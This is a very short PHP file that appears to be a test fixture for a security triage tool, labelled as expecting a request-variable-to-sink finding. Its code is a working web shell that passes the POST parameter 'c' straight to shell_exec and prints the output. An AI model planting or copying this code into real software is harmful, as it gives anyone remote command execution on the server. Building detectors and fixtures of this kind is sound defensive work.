<?php
// triage-expect: triage_php_request_var_to_sink
$c = $_POST['c'];
if ($c != "") { $out = shell_exec("$c"); echo "<pre>$out</pre>"; }
